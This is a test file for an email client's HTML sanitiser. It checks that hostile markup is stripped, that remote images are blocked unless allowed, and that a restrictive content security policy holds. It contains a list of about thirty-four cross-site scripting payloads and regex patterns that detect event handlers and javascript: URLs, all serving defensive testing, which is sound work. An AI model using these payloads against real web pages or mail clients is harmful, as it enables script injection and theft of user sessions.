import assert from 'node:assert/strict'
import { test } from 'node:test'
import { messagePolicy } from './document.ts'
import { hasRemoteContent } from './remote-content.ts'
import { sanitiseMessageHtml } from './sanitise.ts'

const urlOfPicture = (id: string): string | null => (id === 'ATT00001' ? '/parts/ATT00001' : null)
const clean = (html: string, allowRemote = false): string => sanitiseMessageHtml(html, { allowRemote, urlOfPicture })

/** Ways in which a message has tried to run something; each would be seen by the pattern below it. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" ',
  '<image href=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<xmp></xmp><img src=x onerror=alert(1)></xmp>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=a><button formaction=javascript:alert(1)>x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>a{}</style/><img src=x onerror=alert(1)></style>',
  '<style></style foo><img src=x onerror=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<div style="x" onclick="alert(1)" onmouseover=alert(1)>x</div>',
  '<body onload=alert(1)>x</body>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<template><img src=x onerror=alert(1)></template>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<a href="/api/session">x</a><img src="/api/session"><img src="cid:unknown">',
]

for (const html of hostile) {
  test(`nothing can run in ${html.slice(0, 60)}`, () => {
    for (const allowRemote of [false, true]) {
      const result = clean(html, allowRemote)
      // What stands in a style or as text is no element: only tags count.
      const tags = result.replace(/<style>[\s\S]*?<\/style>/g, '').match(/<[^>]*>/g) ?? []
      for (const tag of tags) {
        assert.doesNotMatch(tag, /\son\w+\s*=|javascript:|vbscript:|srcdoc|formaction|data:text/i)
        assert.doesNotMatch(tag, /^<\/?(script|svg|math|iframe|object|embed|form|input|button|meta|base|link|image)\b/i)
        assert.doesNotMatch(tag, /(?:href|src)="\/api/)
      }
    }
  })
}

test('a style keeps its rules and cannot hold a tag', () => {
  const result = clean('<style>p > a { color: red }</style><style>x{}<img src=x></style>')
  assert.match(result, /<style>p > a \{ color: red \}<\/style>/)
  assert.doesNotMatch(result, /<img/)
})

test('what lays out a message stays', () => {
  const html =
    '<table width="600" cellpadding="4" bgcolor="#ffffff"><tr><td align="center" style="color:#333"><font face="Arial" size="2">Élève</font></td></tr></table>'
  assert.equal(clean(html), html)
})

test('a link opens elsewhere and tells nothing', () => {
  assert.equal(
    clean('<a href="https://ac-demo.fr/?a=1&amp;b=2">x</a>'),
    '<a href="https://ac-demo.fr/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">x</a>',
  )
  assert.equal(clean('<a href="#note">x</a>'), '<a href="#note">x</a>')
  assert.match(clean('<a href="mailto:a@ac-demo.fr">x</a>'), /href="mailto:a@ac-demo.fr"/)
})

test('a picture of the message is shown, one from elsewhere on demand', () => {
  assert.match(clean('<img src="attachment:ATT00001" alt="Logo">'), /src="\/parts\/ATT00001"/)
  assert.doesNotMatch(clean('<img src="attachment:ATT00009">'), /src=/)
  for (const src of ['https://t.example/p.gif', 'http://t.example/p.gif', '//t.example/p.gif']) {
    const html = `<img src="${src}" srcset="https://t.example/2x.gif 2x" width="1">`
    assert.doesNotMatch(clean(html), /t\.example/)
    assert.match(clean(html), /ft-blocked/)
    assert.match(clean(html, true), /src="https?:\/\/t\.example\/p\.gif"/)
  }
})

test('the body of a message keeps its colours as a block', () => {
  assert.match(
    clean('<html><head><title>T</title></head><body bgcolor="#eee" class="a">x</body></html>'),
    /^<div bgcolor="#eee" class="ft-body a">x<\/div>$/,
  )
})

test('a hundred thousand open elements cost no time', () => {
  const startedAt = performance.now()
  clean('<b><i>'.repeat(100_000))
  assert.ok(performance.now() - startedAt < 2000)
})

test('remote content is seen where a browser would load it', () => {
  const remote = [
    '<img src="https://a.example/x">',
    '<IMG SRC = //a.example/x>',
    "<td background='http://a.example/x'>",
    '<p style="background:url(https://a.example/x)">',
    '<p style="background:url(&quot;https://a.example/x&quot;)">',
    '<style>p{background:url( "//a.example/x" )}</style>',
  ]
  for (const html of remote) assert.ok(hasRemoteContent(html), html)
  const local = ['<a href="https://a.example">x</a>', '<img src="attachment:ATT00001">', 'src https://a.example']
  for (const html of local) assert.ok(!hasRemoteContent(html), html)
})

test('the policy runs nothing and loads nothing from elsewhere unless asked', () => {
  const policy = messagePolicy(false)
  assert.match(policy, /default-src 'none'/)
  assert.match(policy, /sandbox(?!.*allow-(?:scripts|same-origin))/)
  assert.doesNotMatch(policy, /https:/)
  assert.match(messagePolicy(true), /img-src data: https: http:/)
})
